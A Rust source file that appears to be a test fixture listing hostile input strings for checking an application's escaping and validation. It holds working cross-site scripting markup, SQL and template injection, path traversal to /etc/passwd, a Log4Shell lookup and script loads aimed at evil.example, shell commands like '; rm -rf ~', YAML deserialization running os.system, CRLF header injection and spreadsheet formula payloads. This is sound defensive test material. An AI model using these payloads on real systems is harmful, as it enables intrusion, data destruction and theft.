//! What others may write wherever they write something.

/// What a script does that runs.
const RUN: &str = "window.__pwned=1";

/// Markup that would run something, or break the page. `RUN` stands for the script.
const MARKUP: [&str; 56] = [
    "<script>RUN</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\u{0}>RUN</script>",
    "<script/x>RUN</script>",
    "<script type=module>RUN</script>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover value=RUN>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN>#x\">",
    "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></foreignObject>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style>",
    "<math href=\"javascript:RUN\">click</math>",
    "<img src=x onerror=RUN>",
    "<img src=\"javascript:RUN\">",
    "<img srcset=\"//evil.example/x 1x\">",
    "<iframe src=\"javascript:parent.RUN\"></iframe>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\">",
    "<object data=\"data:text/html,<script>RUN</script>\">",
    "<embed src=\"javascript:RUN\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<button formaction=\"javascript:RUN\">x</button>",
    "<input autofocus onfocus=RUN>",
    "<input name=csrf value=chosen>",
    "<textarea>",
    "<select><option>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<template><script>RUN</script></template>",
    "<details open ontoggle=RUN>",
    "<dialog open>You are signed out</dialog>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<body onload=RUN>",
    "<frameset onload=RUN>",
    "<table background=\"javascript:RUN\">",
    "<marquee onstart=RUN>",
    "<a href=\"javascript:RUN\" id=main>x</a>",
    "<a href=\"jav&#x09;ascript:RUN\">x</a>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">",
    "<div hx-get=/sign-out hx-trigger=load></div>",
    "<div hx-on::load=RUN hx-trigger=load></div>",
    "<div hx-post=/access/users hx-vals='{\"name\":\"eve\"}' hx-trigger=load></div>",
    "<!-- <script>RUN</script>",
    "<![CDATA[<script>RUN</script>]]>",
    "<?xml version=\"1.0\"?><?php echo 1 ?>",
    "</main></body></html><h1>Another page",
];

/// What ends the place that a text stands in, before it goes on with a script.
const ENDS: [&str; 14] = [
    "</title>",
    "</textarea>",
    "</pre>",
    "</span></pre>",
    "</td></tr></table>",
    "</option></select>",
    "</caption>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "\">",
    "'>",
    "`>",
];

/// Attributes that a text would add to its element.
const ATTRIBUTES: [&str; 10] = [
    "\" onfocus=RUN autofocus x=\"",
    "' onfocus=RUN autofocus '",
    "\" onpointerenter=RUN style=\"position:fixed;inset:0",
    "\" onanimationstart=RUN x=\"",
    " onclick=RUN ",
    "\" accesskey=x onclick=RUN x=\"",
    "x\" hx-get=\"/sign-out\" hx-trigger=\"load",
    "x' hx-on:click='RUN",
    "\"/><a href=\"/sign-out\">x",
    "\\\" onfocus=RUN autofocus //",
];

/// What other languages and tools would take for their own.
const LANGUAGES: [&str; 44] = [
    "{{7*7}}",
    "{% raw %}{% endraw %}",
    "{# a comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('RUN')()}}",
    "[[${7*7}]]",
    "{{self|safe}}",
    "{{\"<script>RUN</script>\"|safe}}",
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "vbscript:msgbox(1)",
    "data:text/html,<script>RUN</script>",
    "//evil.example",
    "\\\\evil.example\\share",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%3Cscript%3ERUN%3C/script%3E",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "'; DROP TABLE ops_letters; --",
    "' OR '1'='1",
    "100 % _ \\ *",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)",
    "`reboot`",
    "; rm -rf ~ #",
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "__defineGetter__",
    "toString",
    "\"}],\"__proto__\":{\"admin\":true},\"x\":[{\"y\":\"",
    "1e999",
    "-0",
    "NaN",
    "999999999999999999999999999999999999999999",
    "</event><event/>",
    "!!python/object/apply:os.system [\"id\"]",
];

/// What a terminal, a protocol or a string of C would take for its end or its own.
const CONTROLS: [&str; 18] = [
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "\u{1b}P+q\u{1b}\\",
    "\u{9b}31mred",
    "paid\u{8}\u{8}\u{8}\u{8}owed",
    "ok\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "ok\nadmin: ann signed in",
    "ok\rnot ok",
    "\u{0}",
    "a\u{0}b",
    "<scr\u{0}ipt>RUN</scr\u{0}ipt>",
    "\u{c}\u{b}\u{85}",
    "\u{7f}",
    "\u{1}\u{2}\u{3}\u{4}",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "\u{fffd}\u{fffd}",
    "\t\t\t",
];

/// Characters that are not seen, or have others be seen elsewhere.
pub const HIDDEN: [char; 34] = [
    '\u{ad}',
    '\u{34f}',
    '\u{61c}',
    '\u{115f}',
    '\u{1160}',
    '\u{17b4}',
    '\u{17b5}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2063}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{206f}',
    '\u{2800}',
    '\u{3164}',
    '\u{feff}',
    '\u{ffa0}',
    '\u{fff9}',
    '\u{1d173}',
    '\u{e0041}',
];

/// What a spreadsheet takes for the beginning of a formula, and what would follow.
const BEGINS: [&str; 9] = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＠"];
const FORMULAS: [&str; 3] =
    ["HYPERLINK(\"http://evil.example\",\"x\")", "cmd|' /C calc'!A0", "SUM(1+1)*7"];

/// Texts that are large, or whose characters are.
fn large() -> [String; 9] {
    [
        "x".repeat(4_000),
        "W".repeat(4_000),
        "<b>".repeat(1_000),
        "\"".repeat(2_000),
        "\n".repeat(1_000),
        " ".repeat(1_000),
        "日本語 العربية עברית 😀 ".repeat(40),
        format!("Z{}algo", "\u{301}\u{334}\u{489}".repeat(100)),
        "[".repeat(2_000),
    ]
}

/// All of them, each once.
pub fn all() -> Vec<String> {
    let with_script = |text: &str| text.replace("RUN", RUN);
    let listed = [&MARKUP[..], &ATTRIBUTES[..], &LANGUAGES[..], &CONTROLS[..]].concat();
    let mut texts: Vec<String> = listed.into_iter().map(with_script).collect();
    texts.extend(ENDS.map(|end| format!("{end}<script>{RUN}</script><img src=x onerror={RUN}>")));
    texts.extend(HIDDEN.map(|hidden| format!("pay{hidden}gnp.exe")));
    for begin in BEGINS {
        texts.extend(FORMULAS.map(|formula| format!("{begin}{formula}")));
    }
    texts.extend(large());
    texts
}
